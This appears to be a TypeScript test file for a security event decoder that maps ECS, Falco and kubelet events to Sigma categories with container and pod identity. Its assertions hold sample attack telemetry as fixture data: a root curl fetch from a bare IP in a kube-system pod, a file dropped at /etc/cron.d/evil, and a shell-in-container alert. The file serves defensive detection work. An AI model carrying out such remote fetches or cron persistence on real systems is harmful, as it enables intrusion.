import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { fixturePath } from '../../../test/fixtures.js';
import { decodeText } from '../read-events.js';

function decodeFixture(...parts: string[]) {
  const file = fixturePath(...parts);
  return { file, ...decodeText(readFileSync(file, 'utf8'), { file }) };
}

test('ECS process, file and container events get Sigma categories, names and workload identity', () => {
  const { file, format, events, issues } = decodeFixture('ecs', 'events.jsonl');
  assert.equal(format, 'elastic-ecs');
  const [proc, created, container] = events;
  assert.deepEqual(proc?.logsource, { product: 'linux', category: 'process_creation' });
  assert.equal(proc?.data.Image, '/usr/bin/curl');
  assert.equal(proc?.data.CommandLine, 'curl -s http://203.0.113.7/x');
  assert.equal(proc?.data.ParentImage, '/bin/sh');
  assert.equal(proc?.data.ParentProcessId, 8120);
  assert.equal(proc?.data.User, 'root');
  assert.equal(proc?.data.Hashes, 'SHA256=AB12');
  assert.equal(proc?.data.ContainerImage, 'alpine:3.19');
  assert.equal(proc?.data.PodName, 'updater-28500000-abcde');
  assert.equal(proc?.data.PodNamespace, 'kube-system');
  assert.equal(proc?.timeMs, Date.parse('2026-03-02T10:30:00.250Z'));
  assert.deepEqual(created?.logsource, { product: 'linux', category: 'file_event' });
  assert.equal(created?.data.TargetFilename, '/etc/cron.d/evil');
  assert.equal(created?.data.ContainerId, '3f1c9d2e8b7a', 'the runtime scheme is removed');
  assert.equal(created?.data.NodeName, 'node-a');
  assert.equal(created?.data.PodUid, '9a8b');
  assert.deepEqual(container?.logsource, { product: 'linux', category: 'container_creation' });
  assert.equal(container?.data.ContainerName, 'u');
  assert.deepEqual(
    issues.map((issue) => [issue.code, issue.location]),
    [['CW_INGEST_BAD_FIELD', { file, line: 4 }]],
  );
});

test('Falco alerts decode as the event they fired on, with the container and pod identity', () => {
  const { file, format, events, issues } = decodeFixture('falco', 'alerts.jsonl');
  assert.equal(format, 'falco-json');
  const [shell, write] = events;
  assert.deepEqual(shell?.logsource, {
    product: 'linux',
    service: 'falco',
    category: 'process_creation',
  });
  assert.equal(shell?.data.Image, '/bin/sh');
  assert.equal(shell?.data.CommandLine, 'sh -c crontab -l');
  assert.equal(shell?.data.ParentImage, '/usr/bin/runc');
  assert.equal(shell?.data.ContainerId, '3f1c9d2e8b7a');
  assert.equal(shell?.data.ContainerImage, 'alpine:3.19');
  assert.equal(shell?.data.PodName, 'updater-28500000-abcde');
  assert.equal(shell?.data.PodNamespace, 'kube-system');
  assert.equal(shell?.data.NodeName, 'node-a');
  assert.equal(shell?.data.rule, 'Terminal shell in container');
  assert.equal(shell?.timeMs, Date.parse('2026-03-02T10:30:00.250Z'));
  assert.deepEqual(write?.logsource, {
    product: 'linux',
    service: 'falco',
    category: 'file_event',
  });
  assert.equal(write?.data.TargetFilename, '/etc/cron.d/evil');
  assert.equal(write?.data.ContainerId, undefined, 'container.id "host" is not a container');
  assert.deepEqual(
    issues.map((issue) => [issue.code, issue.location]),
    [['CW_INGEST_BAD_FIELD', { file, line: 3 }]],
  );
});

test('kubelet Started events become container_creation with the pod identity', () => {
  const { file, format, events, issues } = decodeFixture('k8s-events', 'events.json');
  assert.equal(format, 'k8s-object-events');
  assert.deepEqual(issues, []);
  const [started, cronjob] = events;
  assert.deepEqual(started?.logsource, {
    product: 'kubernetes',
    service: 'events',
    category: 'container_creation',
  });
  assert.equal(started?.data.ContainerName, 'u');
  assert.equal(started?.data.PodName, 'updater-28500000-abcde');
  assert.equal(started?.data.PodUid, '9a8b');
  assert.equal(started?.data.NodeName, 'node-a');
  assert.deepEqual(started?.origin, { file, line: 1, index: 0 });
  assert.deepEqual(cronjob?.logsource, { product: 'kubernetes', service: 'events' });
  assert.equal(cronjob?.data.PodName, undefined);
});
